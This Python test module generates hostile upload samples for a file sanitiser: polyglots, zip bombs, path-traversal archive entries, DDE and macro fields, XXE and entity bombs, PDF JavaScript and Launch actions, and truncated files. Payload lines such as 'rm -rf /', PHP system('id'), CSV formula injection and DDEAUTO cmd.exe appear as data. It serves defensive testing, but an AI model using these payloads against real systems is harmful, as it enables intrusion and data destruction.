"""Hostile files, made in code: what an attacker sends, by class. Yields (class, name, content)."""

# ruff: noqa: E501 (rows of a table)

import struct
import zipfile
import zlib
from functools import cache
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.bestanden.gewoon import (
    MAIN,
    ODT,
    REL,
    beeld,
    bewaar,
    content,
    document,
    docx,
    odt,
    pdf,
    relations,
    types,
    zipped,
)

SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
KOPPEN = {
    "exe": b"MZ\x90\x00\x03", "elf": b"\x7fELF\x02", "macho": b"\xcf\xfa\xed\xfe",
    "class": b"\xca\xfe\xba\xbe", "html": b"<!doctype html>" + SCRIPT, "svg": SVG,
    "xml": b"<?xml version='1.0'?><x/>", "sh": b"#!/bin/sh\nrm -rf /",
    "php": b"<?php system('id');", "js": b"alert(1)", "hta": b"<hta:application>" + SCRIPT, "rtf": b"{\\rtf1\\object}",
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "gif": b"GIF89a" + SCRIPT, "bmp": b"BM" + bytes(40),
    "tiff": b"II*\x00", "webp": b"RIFF\x00\x00\x00\x00WEBP", "ico": b"\x00\x00\x01\x00",
    "ps": b"%!PS-Adobe-3.0", "7z": b"7z\xbc\xaf\x27\x1c", "rar": b"Rar!\x1a\x07",
    "gz": b"\x1f\x8b\x08", "bz2": b"BZh9", "xz": b"\xfd7zXZ\x00", "lnk": b"L\x00\x00\x00", "mht": b"MIME-Version: 1.0\r\n",
    "eml": b"From: a@b.example\r\n", "csv": b"=cmd|' /C calc'!A0", "sql": b"SQLite format 3\x00",
    "swf": b"FWS\x09", "wasm": b"\x00asm", "eicar": EICAR,
}  # fmt: skip


@cache
def alle():
    classes = (gezicht, tweeledig, archieven, kantoor, odt_texten, pdfs, beelden, afgebroken)
    return [(makers.__name__, name, made) for makers in classes for name, made in makers()]


def gezicht():
    """Another kind than it says: with the head of each of ours only as a name."""
    for kind, head in KOPPEN.items():
        yield f"{kind} as pdf", head + bytes(64)
        yield f"space before {kind}", b" \n" + head
    for kind, head in list(KOPPEN.items())[:8]:
        yield f"bom before {kind}", b"\xef\xbb\xbf" + head
    yield "xml as docx", b"<w:document/>"
    yield "zip as docx", zipped({"a.txt": "x"})
    yield "xlsx as docx", zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"})
    yield "jar as docx", zipped({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe"})
    yield "ods as odt", zipped({"mimetype": ODT.replace("text", "spreadsheet")})
    yield "odt master", zipped({"mimetype": f"{ODT}-master", "content.xml": content()})


def tweeledig():
    """Two kinds in one file."""
    good = {"pdf": pdf(), "jpg": beeld(), "png": beeld("PNG"), "docx": docx(), "odt": odt()}
    for kind, made in good.items():
        yield f"html before {kind}", SCRIPT + made
        yield f"gif before {kind}", b"GIF89a=1;" + made
    for kind in ("docx", "odt", "pdf"):
        for other, head in (("html", SCRIPT), ("zip", zipped({"x": "y"})), ("pdf", pdf())):
            if (kind, other) != ("pdf", "pdf"):
                yield f"{kind} then {other}", good[kind] + head
            if other != "pdf":
                yield f"{other} then {kind}", head + good[kind]


def _flagged(made, flag):
    """The same archive, with a flag in each of its heads."""
    out = bytearray(made)
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = out.find(signature)
        while start >= 0:
            out[start + place] |= flag
            start = out.find(signature, start + 4)
    return bytes(out)


def archieven():
    for size in (70, 300):
        yield f"bomb of {size} MiB", _bomb(docx(), "word/big.xml", size)
        yield f"odt bomb of {size}", _bomb(odt(), "styles.xml", size)
    yield "two thousand parts", docx({f"word/a{i}.xml": "<a/>" for i in range(2000)})
    nested = zipped({f"{i}.zip": zipped({"a": bytes(1 << 20)}) for i in range(20)})
    yield "nested", docx({"word/embeddings/a.zip": nested})
    for name in ("../../etc/passwd", "/etc/passwd", "C:\\a.xml", "word/../../a.xml", "a\x00b.xml",
                 "word/CON.xml.exe", "word/aux", "..", "word//a.xml", "\u202ea.xml",
                 "word/" + "a" * 300, "word/a b.xml", "W0RD/document.xml"):  # fmt: skip
        yield f"part {name!r}", docx({name: "<a/>"})
    link = zipfile.ZipInfo("word/a.xml")
    link.external_attr = 0xA1FF << 16
    yield "symlink", _with(link, "/etc/passwd")
    yield "encrypted docx", _flagged(docx(), 1)
    yield "encrypted odt", _flagged(odt(), 1)
    yield "comment", _commented(docx(), SCRIPT)
    yield "twice the same part", _doubled()
    yield "no directory", docx()[:-40]
    yield "lying sizes", docx().replace(b"PK\x01\x02", b"PK\x01\x03")
    overlap = bytearray(docx({"word/a.xml": "<a/>"}))
    second = overlap.rfind(b"PK\x01\x02")
    overlap[second + 42 : second + 46] = bytes(4)
    yield "overlapping parts", bytes(overlap)


def _bomb(made, name, mebibytes):
    out = BytesIO(made)
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w") as part,
    ):
        for _ in range(mebibytes):
            part.write(bytes(1 << 20))
    return out.getvalue()


def _with(info, part):
    out = BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, part)
    return out.getvalue()


def _commented(made, comment):
    out = BytesIO(made)
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = comment
    return out.getvalue()


def _doubled():
    """Which of the two is the document depends on who reads it."""
    made = docx({"word/documenX.xml": document("kwaad")})
    return made.replace(b"word/documenX.xml", b"word/document.xml")


def kantoor():
    external = 'TargetMode="External"'
    for part in ("word/vbaProject.bin", "word/vbaData.xml.bin", "word/activeX/activeX1.bin",
                 "word/embeddings/oleObject1.bin", "word/embeddings/Sheet.xlsx",
                 "customUI/customUI.xml", "word/media/image1.emf", "word/media/image1.svg", "word/media/a.html",
                 "word/afchunk.mht", "word/fonts/font1.odttf", "evil.exe", "word/a.js"):  # fmt: skip
        yield f"with {part}", docx({part: b"x"})
    macro = MAIN.replace("document.main", "document.macroEnabled.main")
    yield "macro type", docx({"[Content_Types].xml": types().replace(MAIN, macro)})
    also = f'<Override PartName="/a" ContentType="{macro}"/>'
    yield "macro type beside", docx({"[Content_Types].xml": types(also)})
    template = types().replace("document.main", "template.main")
    yield "template", docx({"[Content_Types].xml": template})
    for kind in ("attachedTemplate", "oleObject", "frame", "image", "aFChunk", "subDocument",
                 "control", "settings", "video", "externalLink"):  # fmt: skip
        for target in ("https://kwaad.example/a", "file://kwaad/a", r"\\kwaad\a"):
            rels = relations((f"{REL}/{kind}", target, external))
            yield f"{kind} from {target}", docx({"word/_rels/settings.xml.rels": rels})
    for target in ("javascript:alert(1)", "file:///etc/passwd", "ms-msdt:/id", "vbscript:x", "data:text/html,x",
                   "\\\\kwaad\\deel", "search-ms:x"):  # fmt: skip
        rels = relations((f"{REL}/hyperlink", target, external))
        yield f"link to {target}", docx({"word/_rels/document.xml.rels": rels})
    hidden = relations((f"{REL}/image", "http://kwaad.example/spoor.png", ""))
    yield "outside without saying so", docx({"word/_rels/document.xml.rels": hidden})
    for code in ("DDE cmd", "DDEAUTO c:\\\\windows\\\\cmd.exe", "INCLUDETEXT http://kwaad", "ddeauto x",
                 "INCLUDEPICTURE http://kwaad", "LINK Excel.Sheet", "MACROBUTTON x", "DATABASE x"):  # fmt: skip
        run = f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>"
        yield f"field {code}", docx({"word/document.xml": document(run)})
        simple = f'<w:p><w:fldSimple w:instr="{code}"/></w:p>'
        yield f"simple field {code}", docx({"word/header1.xml": document(simple)})
    cut = "".join(f"<w:r><w:instrText>{c}</w:instrText></w:r>" for c in "DDEAUTO")
    yield "field in seven pieces", docx({"word/document.xml": document(f"<w:p>{cut} x</w:p>")})
    for tag in ("altChunk", "object", "control"):
        yield f"element {tag}", docx({"word/document.xml": document(f"<w:{tag}/>")})
    yield from _xml("word/settings.xml", docx)


def _xml(name, make):
    """What an XML reader may be made to do."""
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 9))
    for what, part in (
        ("entity bomb", f'<!DOCTYPE a [<!ENTITY l0 "lol">{lol}]><a>&l8;</a>'),
        ("file entity", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        ("web dtd", '<!DOCTYPE a SYSTEM "http://kwaad.example/a.dtd"><a/>'),
        ("parameter entity", '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://kwaad">%x;]><a/>'),
        ("utf-16", '<?xml version="1.0"?><a/>'.encode("utf-16")),
        ("utf-7", '<?xml version="1.0" encoding="utf-7"?><a/>'),
        ("not closed", "<a><b></a>"),
        ("not xml", SCRIPT[:-3]),
    ):
        yield f"{what} in {name}", make({name: part})


def odt_texten():
    for part in ("Basic/Standard/Module1.xml", "Scripts/python/a.py", "Object 1/content.xml",
                 "ObjectReplacements/Object 1", "Pictures/a.svg", "Dialogs/a.xml", "a.exe",
                 "META-INF/documentsignatures.xml.js", "media/a.mp4"):  # fmt: skip
        yield f"with {part}", odt({part: b"x"})
    for body in (
        '<script:event-listener xlink:href="vnd.sun.star.script:a"/>',
        '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>',
        '<draw:object xlink:href="./Object 1"/>',
        '<draw:object-ole xlink:href="./Object 1"/>',
        '<draw:plugin xlink:href="http://kwaad.example"/>',
        '<draw:applet xlink:href="http://kwaad.example"/>',
        '<draw:floating-frame xlink:href="http://kwaad.example"/>',
        '<draw:image xlink:href="http://kwaad.example/spoor.png"/>',
        '<draw:image xlink:href="file:///etc/passwd"/>',
        '<draw:image xlink:href="Pictures/../../a.png"/>',
        '<text:section-source xlink:href="http://kwaad.example"/>',
        '<text:a xlink:href="javascript:alert(1)"/>',
        '<text:a xlink:href="vnd.sun.star.script:x"/>',
        '<text:a xlink:href="file:///etc/passwd"/>',
        '<text:dde-connection-decl office:dde-application="cmd"/>',
        '<office:dde-source office:dde-application="cmd"/>',
        '<text:execute-macro/>',
        '<text:script script:language="JavaScript">x</text:script>',
        '<text:database-display/>',
    ):  # fmt: skip
        yield f"body {body[:40]}", odt({"content.xml": content(body)})
    yield from _xml("styles.xml", odt)


def pdfs():
    for kind in ("JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition",
                 "Sound", "Movie", "Thread", "GoTo3DView", "RichMediaExecute", "SetOCGState", "Hide",
                 "ResetForm"):  # fmt: skip
        yield f"{kind} on opening", pdf(OpenAction=_act(kind))
        later = Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([_act(kind)]))
        yield f"{kind} after another", pdf(OpenAction=later)
        yield f"{kind} on a page", _on_page(AA=Dictionary(O=_act(kind)))
        yield f"{kind} in a note", _note(Subtype=Name.Link, A=_act(kind))
    for kind in ("FileAttachment", "RichMedia", "Screen", "Movie", "Sound", "3D"):
        yield f"note {kind}", _note(Subtype=Name(f"/{kind}"))
    for link in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "cmd.exe",
        "\\\\kwaad\\a",
        "data:text/html,x",
    ):
        yield (
            f"address {link}",
            _note(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(link))),
        )
    yield (
        "named script",
        pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script()])))),
    )
    yield "embedded file", _attached()
    yield "portfolio", pdf(Collection=Dictionary())
    yield "associated file", pdf(AF=Array([]))
    yield "xfa form", pdf(AcroForm=Dictionary(XFA=String("<xdp/>")))
    yield (
        "script in a field",
        pdf(AcroForm=Dictionary(Fields=Array([Dictionary(AA=Dictionary(K=_script()))]))),
    )
    yield "escaped name", pdf(OpenAction=_script()).replace(b"/JavaScript", b"/J#61vaScript")
    yield "nobody points at it", _loose()
    yield "in an object stream", _compressed()
    yield "stream from elsewhere", _stream(F=String("http://kwaad.example/a"))
    yield "locked", _locked()
    yield "too many pages", _pages(600)
    yield "no pages", bewaar(pikepdf.new())
    yield "deep", pdf(A=_deep(200))
    yield "only a head", b"%PDF-1.7\n"
    yield "head and script", b"%PDF-1.7\n" + SCRIPT
    yield "page tree in a ring", pdf().replace(b"/Kids [", b"/Kids [ 2 0 R ")


def _on_page(**entries):
    made = pikepdf.new()
    page = made.add_blank_page()
    for key, value in entries.items():
        page.obj[f"/{key}"] = value
    return bewaar(made)


def _note(**entries):
    return _on_page(
        Annots=Array([Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)])
    )


def _attached():
    made = pikepdf.new()
    made.add_blank_page()
    made.attachments["a.exe"] = b"MZ\x90"
    return bewaar(made)


def _act(kind):
    return Dictionary(S=Name(f"/{kind}"), F=String("cmd.exe"))


def _script():
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _loose():
    """An object that nothing of the page points at; kept in the file by the trailer."""
    made = pikepdf.new()
    made.add_blank_page()
    made.trailer["/Extra"] = made.make_indirect(_script())
    return bewaar(made)


def _compressed():
    made = pikepdf.new()
    made.add_blank_page()
    made.Root.OpenAction = made.make_indirect(_script())
    out = BytesIO()
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _stream(**entries):
    made = pikepdf.new()
    made.add_blank_page()
    made.Root.X = pikepdf.Stream(made, b"x", Dictionary(**entries))
    return bewaar(made)


def _locked():
    made = pikepdf.new()
    made.add_blank_page()
    out = BytesIO()
    made.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def _pages(number):
    made = pikepdf.new()
    for _ in range(number):
        made.add_blank_page()
    return bewaar(made)


def _deep(depth):
    inner = Array([])
    for _ in range(depth):
        inner = Array([inner])
    return inner


def _png(width, height, body=b""):
    def chunk(kind, part):
        return (
            struct.pack(">I", len(part)) + kind + part + struct.pack(">I", zlib.crc32(kind + part))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def beelden():
    for side in (8000, 50_000, 1_000_000):
        yield f"png of {side} square", _png(side, side, zlib.compress(bytes(1000)))
    huge = bytearray(beeld())
    place = huge.find(b"\xff\xc0") + 5
    huge[place : place + 4] = struct.pack(">HH", 60_000, 60_000)
    yield "jpg of 60,000 square", bytes(huge)
    yield "png without picture", _png(10, 10)
    yield "png of nothing", _png(0, 0)
    yield "jpg is only a head", b"\xff\xd8\xff" + SCRIPT
    yield "png is only a head", b"\x89PNG\r\n\x1a\n" + SCRIPT


def afgebroken():
    """Cut while it was sent."""
    good = {
        "pdf": pdf(),
        "jpg": beeld(size=(300, 300)),
        "png": beeld("PNG"),
        "docx": docx(),
        "odt": odt(),
    }
    for kind, made in good.items():
        for part in (10, 50, 80):
            if kind != "pdf":
                yield f"{kind} cut at {part} %", made[: len(made) * part // 100]


def onschadelijk():
    """Taken, and then nothing of it is left but the picture or the page: (name, content, gone)."""
    for kind, made in (("jpg", beeld()), ("png", beeld("PNG"))):
        for what, tail in (("html", SCRIPT), ("zip", zipped({"a": "b"})), ("php", b"<?php x();"),
                           ("svg", SVG), ("phar", b"__HALT_COMPILER();")):  # fmt: skip
            yield f"{kind} then {what}", made + tail, tail
    exif = Image.Exif()
    exif[0x010E], exif[0x013B] = "Kerkstraat 12", "Jan Jansen"
    exif[0x8825] = {1: "N", 2: (52.0, 5.0, 0.0)}
    yield "jpg with a place", beeld(exif=exif), b"Kerkstraat"
    yield "jpg with a maker", beeld(exif=exif), b"Jansen"
    yield "jpg with a comment", beeld(comment=SCRIPT), SCRIPT
    yield "png with a place", beeld("PNG", exif=exif), b"Jansen"
    yield "jpg with a profile", beeld(icc_profile=b"profiel" + SCRIPT), SCRIPT
    yield "png with a profile", beeld("PNG", icc_profile=b"profiel" + SCRIPT), b"iCCP"
    frames = [Image.new("RGB", (9, 9), n) for n in range(200)]
    out = BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    yield "png of 200 pictures", out.getvalue(), b"fdAT"
    yield "docx with a maker", docx({"docProps/core.xml": "<a>Jan Jansen</a>"}), b"Jansen"
    yield "odt with a maker", odt({"meta.xml": "<a>Jan Jansen</a>"}), b"Jansen"
    about = pikepdf.new()
    about.add_blank_page()
    about.docinfo["/Author"] = "Jan Jansen"
    yield "pdf with a maker", bewaar(about), b"Jansen"
    yield "pdf that jumps on opening", pdf(OpenAction=Array([0, Name.Fit])), b"OpenAction"
